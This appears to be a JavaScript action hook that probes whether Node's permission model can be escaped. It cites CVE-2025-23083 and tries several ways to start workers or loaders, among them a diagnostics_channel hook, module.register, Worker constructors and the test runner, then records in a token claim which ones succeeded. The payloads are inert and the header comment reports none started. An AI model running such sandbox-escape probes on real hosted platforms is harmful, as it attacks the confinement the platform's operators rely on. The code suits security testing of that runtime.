// outcome: completed; claim started=[]; beside served
// CVE-2025-23083: the channel `worker_threads` handed out an internal worker, whose class made one past the permission model.
const channels = require('node:diagnostics_channel')
exports.onExecuteCredentialsExchange = async (_event, api) => {
  const started = []
  channels.subscribe('worker_threads', ({ worker }) => {
    if (started.push('a worker was shown') < 10) new worker.constructor('0', { eval: true })
  })
  const ways = {
    register: () => require('node:module').register('data:text/javascript,export{}'),
    'register of the loader': () => process.getBuiltinModule('module').register('data:text/javascript,export{}'),
    Worker: () => new (process.getBuiltinModule('worker_threads').Worker)('0', { eval: true }),
    'imported Worker': async () => new (await import('node:worker_threads')).Worker('0', { eval: true }),
    'the class of a port': () => new new MessageChannel().port1.constructor(),
    'the test runner': () =>
      require('node:test')
        .run({ files: [__filename], isolation: 'process' })
        .on('error', () => {}) && false,
  }
  for (const [name, start] of Object.entries(ways)) {
    try {
      if (await start()) started.push(name)
    } catch {
      // Refused.
    }
  }
  api.accessToken.setCustomClaim('started', started)
}
